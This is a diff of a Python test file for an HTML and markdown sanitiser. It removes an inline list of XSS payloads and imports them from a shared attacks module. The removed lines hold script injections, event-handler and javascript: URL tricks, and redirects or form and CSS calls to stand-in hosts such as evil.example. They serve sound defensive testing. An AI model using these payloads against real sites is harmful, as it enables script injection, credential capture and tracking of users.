@@ -8,55 +8,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from services.web.text.html import ATTRIBUTES, MAX_SPAN, TAGS, sanitise, to_html
+from tests.attacks import ATTACKS, HOSTILE
 
 ALLOWED = {tag: set(names) for tag, names in ATTRIBUTES.items()} | {"a": {"href", "rel", "target"}}
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)>chart</img>",
-    '<img alt="a&quot; onload=&quot;alert(1)" src="https://tracker.example/p.gif">',
-    "![x](https://tracker.example/p.gif)",
-    '![x](data:image/svg+xml,<svg onload="alert(1)">)',
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt&colon;alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox)",
-    "[x](//evil.example/)",
-    "[x](/api/jobs)",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href=" &#14; javascript:alert(1)">x</a>',
-    '<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0" class="button" id="delete">x</a>',
-    "<javascript:alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg/onload=alert(1)>",
-    '<math><mtext><table><mglyph><style><img src onerror="alert(1)"></style></mglyph></table></mtext></math>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
-    '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)></form>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
-    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/x.css>",
-    "<table background=javascript:alert(1)><tr><td style='background:url(https://evil.example)' onmouseover=alert(1)>x",
-    "<table><td><script>alert(1)</script></td></table>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!-- --!><script>alert(1)</script> -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?><script>alert(1)</script>",
-    "<b\x00><scr\x00ipt>alert(1)</scr\x00ipt>",
-    "`<img src=x onerror=alert(1)>`",
-    "```html\n</code></pre><script>alert(1)</script>\n```",
-    "$</p><script>alert(1)</script>$",
-    "$$\n</pre><script>alert(1)</script>\n$$",
-    "<page_number><script>alert(1)</script></page_number>",
-    "<watermark onclick=alert(1) style='position:fixed'>x</watermark>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
-    '<td colspan="9999999" rowspan="-1">x</td>',
-]
 
 
 class Tree(HTMLParser):
@@ -104,12 +58,12 @@ def assert_harmless(tree: Tree) -> None:
             assert 0 < int(attributes.get(name) or 1) <= MAX_SPAN
 
 
-@pytest.mark.parametrize("markdown", HOSTILE)
+@pytest.mark.parametrize("markdown", ATTACKS)
 def test_hostile_text_comes_out_harmless(markdown: str) -> None:
     assert_harmless(Tree(to_html(markdown)))
 
 
-@pytest.mark.parametrize("html", HOSTILE)
+@pytest.mark.parametrize("html", ATTACKS)
 def test_hostile_html_comes_out_harmless_without_the_help_of_markdown(html: str) -> None:
     assert_harmless(Tree(sanitise(html)))
 
